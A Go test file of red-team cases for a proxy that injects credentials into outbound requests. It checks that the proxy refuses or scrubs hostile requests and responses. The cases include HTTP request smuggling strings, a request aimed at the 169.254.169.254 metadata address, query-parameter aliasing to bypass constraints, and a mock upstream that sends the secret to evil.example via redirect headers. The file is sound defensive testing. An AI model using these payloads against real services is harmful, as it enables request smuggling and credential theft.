package main

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"mime/quotedprintable"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
)

// Red team, third round: DESIGN §4's rules and the neighbours of issue 11's
// classes that the first two rounds did not try, through the real server.

// rt3Budget is a grant budgeting a body field and a query parameter on a
// rule that constrains nothing itself.
func rt3Budget() map[string]any {
	return map[string]any{"upstream": "api", "budget": map[string]any{"body.fee": 10, "query.units": 10},
		"rules": []any{map[string]any{"method": "POST", "path": "/pay"}}}
}

// TestRedTeam3BudgetNeedsJSONBody (class 1, budgets): a budget on a body
// field was counted only when the body was declared JSON. Sent as
// text/plain, with no Content-Type, as text/json or with a Content-Type the
// broker cannot parse, {"fee": 1000} passed uncounted, and an upstream that
// decodes the body whatever its type (Go's json.NewDecoder(r.Body), Flask's
// get_json(force=True)) spent 1000 of a budget of 10.
func TestRedTeam3BudgetNeedsJSONBody(t *testing.T) {
	up := newUpstream(t)
	b := startBroker(t, harnessOpts{upstream: up.URL})
	s := b.session(trustedSession(rt3Budget()))
	body := `{"fee": 1000}`
	var attacks []rtAttack
	for _, ct := range []string{"text/plain", "text/json", "application/x-json", "application/octet-stream", ""} {
		var h []string
		if ct != "" {
			h = []string{"Content-Type", ct}
		}
		attacks = append(attacks, rtAttack{"type " + ct, "POST", "/v1/proxy/api/pay", h, body, 403, "constraint_violated", "type"})
	}
	rtRefused(t, b, up, s.Token, attacks)
	rtAllowed(t, b, up, s.Token, []rtAttack{
		{method: "POST", path: "/v1/proxy/api/pay", header: rtJSON, body: `{"fee": 4}`},
		{method: "POST", path: "/v1/proxy/api/pay?units=3"},
	})
	b.do("POST", b.sandbox+"/v1/proxy/api/pay", s.Token, `{"fee": 7}`).wantProblem(t, 403, "budget_exceeded")
	// A grant that reads no body field still takes any body.
	free := b.session(trustedSession(map[string]any{"upstream": "api", "budget": map[string]any{"query.units": 10},
		"rules": []any{map[string]any{"method": "POST", "path": "/send", "constraints": map[string]any{"query.to": map[string]any{"pin": "acme"}}}}}))
	rtAllowed(t, b, up, free.Token, []rtAttack{{method: "POST", path: "/v1/proxy/api/send", header: []string{"Content-Type", "text/plain"}, body: `to=mallory`}})
}

// TestRedTeam3QueryKeyReaders (class 1, query keys): servers read a query
// key under another name than its own. Express (qs), PHP and Rails read
// "to[]=x", "to[0]=x" and "to[k]=x" as the parameter "to" (an array or a
// map); PHP also reads "account.id", "account id" and "account[id" as
// "account_id". A constrained (or budgeted) parameter sent so was not seen
// by the broker: its pattern and budget were skipped and a pin was filled
// in beside it.
func TestRedTeam3QueryKeyReaders(t *testing.T) {
	up := newUpstream(t)
	b := startBroker(t, harnessOpts{upstream: up.URL})
	s := b.session(trustedSession(map[string]any{"upstream": "api", "budget": map[string]any{"query.units": 10},
		"rules": []any{
			map[string]any{"method": "GET", "path": "/mail", "constraints": map[string]any{
				"query.to":         map[string]any{"pattern": "[a-z]+@acme\\.com"},
				"query.account_id": map[string]any{"pin": "42"},
			}},
		}}))
	var attacks []rtAttack
	for _, q := range []string{"to%5B%5D=evil%40mallory.com", "to[]=evil%40mallory.com", "to[0]=evil%40mallory.com", "to[x]=evil%40mallory.com",
		"TO[]=evil%40mallory.com", "account.id=7", "account%20id=7", "account[id=7", "Account.Id=7", "account_id[]=7", "units[]=1000", "units[0]=1000", "%20account_id=7"} {
		attacks = append(attacks, rtAttack{q, "GET", "/v1/proxy/api/mail?" + q, nil, "", 403, "constraint_violated", "name"})
	}
	rtRefused(t, b, up, s.Token, attacks)
	rtAllowed(t, b, up, s.Token, []rtAttack{
		{method: "GET", path: "/v1/proxy/api/mail?to=bob%40acme.com&page[size]=2&units=3"},
		{method: "GET", path: "/v1/proxy/api/mail?account_id=42&toto=x&account=1"},
	})
	if got := up.last(t).RawQuery; got != "account_id=42&toto=x&account=1" {
		t.Errorf("the upstream received ?%s", got)
	}
}

// TestRedTeam3InjectedQueryParamReaders (DESIGN §4, credential in the
// query): the sandbox's own "api_key" was dropped, but "API_KEY" (ASP.NET
// reads query keys case-insensitively and binds the first value),
// "api_key[]" (qs, PHP, Rails) and "api.key" / "api key" (PHP reads both as
// "api_key") passed, ahead of the broker's: the upstream could act under a
// key the sandbox chose (its own account, to receive the grant's data).
func TestRedTeam3InjectedQueryParamReaders(t *testing.T) {
	up := newUpstream(t)
	b := startBroker(t, harnessOpts{upstream: up.URL})
	s := b.session(trustedSession(map[string]any{"upstream": "open", "rules": []any{map[string]any{"method": "GET", "path": "/echo"}}}))
	for _, q := range []string{"api_key=mine", "API_KEY=mine", "Api_Key=mine", "api_key%5B%5D=mine", "api_key[]=mine", "api_key[0]=mine", "api.key=mine", "api%20key=mine", "api[key=mine", "%20api_key=mine", "api_%E2%84%AAey=mine"} {
		t.Run(q, func(t *testing.T) {
			r := b.do("GET", b.sandbox+"/v1/proxy/open/echo?"+q+"&x=1", s.Token, nil)
			if r.status != http.StatusOK {
				t.Fatalf("%d %s", r.status, r.body)
			}
			got := up.last(t).RawQuery
			if strings.Contains(got, "mine") || !strings.HasPrefix(got, "x=1&api_key=") {
				t.Errorf("the upstream received ?%s", strings.ReplaceAll(got, url.QueryEscape(canary), "<secret>"))
			}
		})
	}
}

// rt3Secret is a credential with the characters that quoting encoders
// escape: both quotes, a backslash, '=' (quoted-printable), a space, '<'.
const rt3Secret = `Qk3y"wi'th=quo\tes/ sl<ash`

// TestRedTeam3ScrubQuotingEncoders (class 4): an upstream echoing a
// credential that holds quotes writes it the way its encoder quotes text:
// CSV doubles '"', YAML single-quoted and SQL strings double "'", Python's
// repr and JavaScript write \', a shell quotes it '\”, PHP's
// htmlspecialchars writes &#039;, quoted-printable (e-mail bodies) writes
// '=' as =3D, YAML double-quoted and Python write \xHH, TOML and YAML
// \UXXXXXXXX. All of these reached the sandbox.
func TestRedTeam3ScrubQuotingEncoders(t *testing.T) {
	sec := rt3Secret
	forms := rt3QuotedForms(sec)
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got := r.Header.Get("X-Key")
		var body bytes.Buffer
		for _, f := range rt3QuotedForms(got) {
			fmt.Fprintf(&body, "%s: %s\n", f[0], f[1])
			w.Header().Add("X-Form", f[1])
		}
		w.Header().Set("Content-Type", "text/plain")
		_, _ = w.Write(body.Bytes())
	}))
	t.Cleanup(echo.Close)
	b := startBroker(t, harnessOpts{upstream: echo.URL, env: map[string]string{"RT3_KEY": sec}, extraYAML: `  - name: quoted
    base_url: ` + echo.URL + `
    credential: {source: env, name: RT3_KEY}
    inject: {header: X-Key, format: "{secret}"}
`})
	s := b.session(trustedSession(map[string]any{"upstream": "quoted", "rules": []any{map[string]any{"method": "GET", "path": "/echo"}}}))
	r := b.do("GET", b.sandbox+"/v1/proxy/quoted/echo", s.Token, nil)
	if r.status != http.StatusOK {
		t.Fatalf("%d %s", r.status, r.body)
	}
	all := string(r.body) + "\n" + strings.Join(r.header.Values("X-Form"), "\n")
	for _, f := range forms {
		if strings.Contains(all, f[1]) || strings.Contains(all, "th=quo") || strings.Contains(all, "th=3Dquo") {
			t.Errorf("%s: the answer holds the credential: %q", f[0], f[1])
		}
	}
	if n := strings.Count(string(r.body), "[REDACTED]"); n != len(forms) {
		t.Errorf("%d of %d forms redacted:\n%s", n, len(forms), r.body)
	}
}

// rt3QuotedForms are sec as quoting encoders write it: [name, form].
func rt3QuotedForms(sec string) [][2]string {
	var csvb bytes.Buffer
	cw := csv.NewWriter(&csvb)
	_ = cw.Write([]string{sec})
	cw.Flush()
	var qp bytes.Buffer
	qw := quotedprintable.NewWriter(&qp)
	_, _ = io.WriteString(qw, sec)
	_ = qw.Close()
	py := strings.NewReplacer(`\`, `\\`, `'`, `\'`, "\t", `\t`).Replace(sec)
	return [][2]string{
		{"csv", strings.TrimSpace(csvb.String())},
		{"yaml single-quoted", "'" + strings.ReplaceAll(sec, "'", "''") + "'"},
		{"python repr", "'" + py + "'"},
		{"shell quote", "'" + strings.ReplaceAll(sec, "'", `'\''`) + "'"},
		{"php htmlspecialchars", strings.NewReplacer(`"`, "&quot;", "'", "&#039;", "<", "&lt;").Replace(sec)},
		{"quoted-printable", qp.String()},
		{"yaml double-quoted \\x", `"` + strings.NewReplacer(`"`, `\x22`, `\`, `\\`, `/`, `\x2F`).Replace(sec) + `"`},
		{"toml \\U", `"` + strings.NewReplacer(`"`, `\U00000022`, `\`, `\\`).Replace(sec) + `"`},
		{"html padded hex", strings.NewReplacer(`"`, "&#x0022;", "'", "&#x0027;", "<", "&#x003C;").Replace(sec)},
	}
}

// rt3Raw sends a raw request and reports the answer and what the upstream
// received (nil: nothing).
// Informational answers (100 Continue) are skipped.
func rt3Raw(t *testing.T, b *brokerProc, up *upstreamServer, req string) (response, *recorded) {
	t.Helper()
	n := len(up.requests())
	conn, err := net.Dial("tcp", strings.TrimPrefix(b.sandbox, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(conn, req); err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(conn)
	var resp *http.Response
	for {
		if resp, err = http.ReadResponse(br, nil); err != nil {
			t.Fatalf("raw request: %v", err)
		}
		if resp.StatusCode >= 200 {
			break
		}
	}
	defer resp.Body.Close()
	data, _ := io.ReadAll(resp.Body)
	r := response{status: resp.StatusCode, header: resp.Header, body: data}
	if rs := up.requests(); len(rs) > n {
		last := rs[len(rs)-1]
		return r, &last
	}
	return r, nil
}

// TestRedTeam3RequestFraming (DESIGN §4, headers and framing): smuggling
// shapes, HTTP/1.0, absolute-form targets, Expect, trailers, obs-fold,
// duplicated and oddly spelled forbidden headers. The broker reads the
// request once and sends its own framing, so the upstream never receives a
// forbidden header, a second body, or a header the rule did not check.
func TestRedTeam3RequestFraming(t *testing.T) {
	up := newUpstream(t)
	b := startBroker(t, harnessOpts{upstream: up.URL})
	s := b.session(trustedSession(apiGrant(map[string]any{"method": "POST", "path": "/pay", "constraints": map[string]any{
		"body.to":         map[string]any{"pin": "acme"},
		"header.X-Tenant": map[string]any{"pattern": "[a-z]+"},
	}})))
	tok := s.Token
	pre := "POST /v1/proxy/api/pay HTTP/1.1\r\nHost: broker\r\nAuthorization: Bearer " + tok + "\r\nConnection: close\r\nContent-Type: application/json\r\n"
	body := `{"to": "acme"}`
	cl := "Content-Length: " + itoa(len(body)) + "\r\n"
	cases := []struct {
		name, req string
		refused   bool // else: allowed, and the upstream's request is checked
	}{
		{"TE and CL", pre + cl + "Transfer-Encoding: chunked\r\n\r\n" + fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(body), body) + "POST /base/admin HTTP/1.1\r\n\r\n", false},
		{"two CLs", pre + cl + "Content-Length: 3\r\n\r\n" + body, true},
		{"TE chunked twice", pre + "Transfer-Encoding: chunked, chunked\r\n\r\n" + fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(body), body), true},
		{"TE identity", pre + "Transfer-Encoding: identity\r\n" + cl + "\r\n" + body, true},
		{"HTTP/1.0", strings.Replace(pre, "HTTP/1.1", "HTTP/1.0", 1) + cl + "\r\n" + body, false},
		{"absolute-form to another host", strings.Replace(pre, "POST /v1/", "POST http://169.254.169.254/v1/", 1) + cl + "\r\n" + body, false},
		{"Expect 100-continue", pre + cl + "Expect: 100-continue\r\n\r\n" + body, false},
		{"trailer sets Content-Type and Cookie", pre + "Transfer-Encoding: chunked\r\nTrailer: Content-Type, Cookie, X-Tenant\r\n\r\n" +
			fmt.Sprintf("%x\r\n%s\r\n0\r\nContent-Type: text/plain\r\nCookie: a=b\r\nX-Tenant: EVIL ONE\r\n\r\n", len(body), body), false},
		{"forbidden headers in odd spellings", pre + cl + "cookie: a=b\r\nCOOKIE: c=d\r\nx-forwarded-for: 10.0.0.1\r\nforwarded: for=1\r\nx-http-method-override: DELETE\r\nX-Original-URL: /admin\r\nproxy-authorization: x\r\n\r\n" + body, false},
		{"obs-fold in a constrained header", pre + cl + "X-Tenant: acme\r\n evil\r\n\r\n" + body, true},
		{"constrained header twice in two cases", pre + cl + "X-Tenant: acme\r\nx-tenant: evil\r\n\r\n" + body, true},
		{"constrained header with a comma list", pre + cl + "X-Tenant: acme,evil\r\n\r\n" + body, true},
		{"constrained header with a newline escape", pre + cl + "X-Tenant: acme\revil\r\n\r\n" + body, true},
		{"underscore spelling of a constrained header", pre + cl + "X_Tenant: EVIL\r\n\r\n" + body, false},
		{"Connection names an allowlisted header", strings.Replace(pre, "Connection: close", "Connection: close, Content-Type, X-Trace", 1) + cl + "X-Trace: t1\r\n\r\n" + body, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r, got := rt3Raw(t, b, up, c.req)
			if c.refused {
				if got != nil || r.status < 400 {
					t.Fatalf("%d; the upstream received %v", r.status, got)
				}
				return
			}
			if r.status != http.StatusOK || got == nil {
				t.Fatalf("%d %s", r.status, r.body)
			}
			if string(got.Body) != body || got.RawPath != "/base/pay" {
				t.Errorf("the upstream received %s %s", got.RawPath, got.Body)
			}
			for _, h := range []string{"Cookie", "X-Forwarded-For", "Forwarded", "X-Http-Method-Override", "X-Original-Url", "Proxy-Authorization", "X_tenant", "Expect", "Transfer-Encoding", "Trailer"} {
				if v := got.Header.Values(h); len(v) > 0 {
					t.Errorf("the upstream received %s: %q", h, v)
				}
			}
			if v := got.Header.Get("Content-Type"); v != "application/json" {
				t.Errorf("the upstream received Content-Type %q", v)
			}
			if a := got.Header.Get("Authorization"); a != "Bearer "+canary {
				t.Errorf("the upstream received Authorization %q", a)
			}
		})
	}
	assertNoCanary(t, "audit", b.auditExport())
}

// TestRedTeam3ResponseHeaders (DESIGN §4, responses): headers an upstream
// could use to hand the sandbox a credential-bearing cookie, or to smuggle
// the secret past the scrubber in a header the broker passes.
func TestRedTeam3ResponseHeaders(t *testing.T) {
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sec := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		h := w.Header()
		h["set-cookie"] = []string{"sid=a"} // not canonical in the map: written as is
		h.Set("Set-Cookie2", "sid=b; Version=1")
		h.Set("Connection", "X-Leak, keep-alive")
		h.Set("X-Leak", "hop")
		h.Set("Location", "https://evil.example/?k="+url.QueryEscape(sec))
		h.Set("Refresh", "0; url=https://evil.example/?k="+sec)
		h.Set("Link", "<https://evil.example/"+url.PathEscape(sec)+">; rel=next")
		h.Set("Authentication-Info", "nextnonce=\""+sec+"\"")
		w.WriteHeader(http.StatusTemporaryRedirect)
	}))
	t.Cleanup(echo.Close)
	b := startBroker(t, harnessOpts{upstream: echo.URL})
	s := b.session(trustedSession(apiGrant(map[string]any{"method": "GET", "path": "/r"})))
	r := b.do("GET", b.sandbox+"/v1/proxy/api/r", s.Token, nil)
	if r.status != http.StatusTemporaryRedirect {
		t.Fatalf("%d %s", r.status, r.body)
	}
	for _, h := range []string{"Set-Cookie", "Set-Cookie2", "X-Leak", "Connection"} {
		if v := r.header.Values(h); len(v) > 0 {
			t.Errorf("%s passed to the sandbox: %q", h, v)
		}
	}
	assertNoCanary(t, "headers", []byte(fmt.Sprint(r.header)))
	if !strings.Contains(r.header.Get("Location"), "[REDACTED]") {
		t.Errorf("Location: %q", r.header.Get("Location"))
	}
}

// TestRedTeam3ConstraintEdges (class 1's neighbours held): multi-line
// values against a pattern, one_of type confusion, budget values that are
// not plain non-negative numbers, max_length counted in code points.
func TestRedTeam3ConstraintEdges(t *testing.T) {
	up := newUpstream(t)
	b := startBroker(t, harnessOpts{upstream: up.URL})
	s := b.session(trustedSession(map[string]any{"upstream": "api", "budget": map[string]any{"query.units": 10, "body.fee": 10},
		"rules": []any{map[string]any{"method": "POST", "path": "/pay", "constraints": map[string]any{
			"body.to":         map[string]any{"pattern": "[a-z]+"},
			"body.kind":       map[string]any{"one_of": []any{1, "two"}},
			"body.note":       map[string]any{"max_length": 3},
			"query.ref":       map[string]any{"pattern": "[a-z]+"},
			"query.mode":      map[string]any{"one_of": []any{1}},
			"header.X-Tenant": map[string]any{"pattern": "[a-z]+"},
		}}}}))
	var attacks []rtAttack
	for _, a := range []struct{ name, path, body, constraint string }{
		{"pattern: newline then text", "/pay", `{"to": "acme\nevil"}`, "pattern"},
		{"pattern: trailing newline", "/pay", `{"to": "acme\n"}`, "pattern"},
		{"pattern: CR LF", "/pay", `{"to": "acme\r\nX: y"}`, "pattern"},
		{"pattern: NUL", "/pay", `{"to": "acme\u0000evil"}`, "pattern"},
		{"pattern: array", "/pay", `{"to": ["acme", "evil@x"]}`, "pattern"},
		{"pattern: object", "/pay", `{"to": {"acme": 1}}`, "pattern"},
		{"one_of: string for number", "/pay", `{"kind": "1"}`, "one_of"},
		{"one_of: number for string", "/pay", `{"kind": 2}`, "one_of"},
		{"one_of: true for 1", "/pay", `{"kind": true}`, "one_of"},
		{"one_of: array of the value", "/pay", `{"kind": [1]}`, "one_of"},
		{"one_of query: 1.0 for 1", "/pay?mode=1.0", `{}`, "one_of"},
		{"one_of query: 01 for 1", "/pay?mode=01", `{}`, "one_of"},
		{"one_of query: +1 for 1", "/pay?mode=%2B1", `{}`, "one_of"},
		{"budget: negative", "/pay?units=-5", `{}`, "budget"},
		{"budget: NaN", "/pay?units=NaN", `{}`, "budget"},
		{"budget: Inf", "/pay?units=Inf", `{}`, "budget"},
		{"budget: huge", "/pay?units=1e309", `{}`, "budget"},
		{"budget: hex", "/pay?units=0x10", `{}`, "budget"},
		{"budget: underscores", "/pay?units=1_000", `{}`, "budget"},
		{"budget: empty", "/pay?units=", `{}`, "budget"},
		{"budget: trailing junk", "/pay?units=5abc", `{}`, "budget"},
		{"budget: body string", "/pay", `{"fee": "5"}`, "budget"},
		{"budget: body negative zero exponent", "/pay", `{"fee": -1e0}`, "budget"},
		{"budget: body null", "/pay", `{"fee": null}`, "budget"},
		{"max_length: combining marks count", "/pay", `{"note": "e\u0301e\u0301"}`, "max_length"},
	} {
		attacks = append(attacks, rtAttack{a.name, "POST", "/v1/proxy/api" + a.path, rtJSON, a.body, 403, "constraint_violated", a.constraint})
	}
	// Control characters in a query value are refused before any rule.
	attacks = append(attacks, rtAttack{"query pattern: newline", "POST", "/v1/proxy/api/pay?ref=acme%0Aevil", rtJSON, `{}`, 400, "bad_request", ""},
		rtAttack{"query pattern: trailing newline", "POST", "/v1/proxy/api/pay?ref=acme%0A", rtJSON, `{}`, 400, "bad_request", ""})
	rtRefused(t, b, up, s.Token, attacks)
	rtAllowed(t, b, up, s.Token, []rtAttack{
		{method: "POST", path: "/v1/proxy/api/pay?units=2&mode=1&ref=ab", header: rtJSON, body: `{"to": "acme", "kind": "two", "note": "é\u00e9", "fee": 1}`},
	})
}
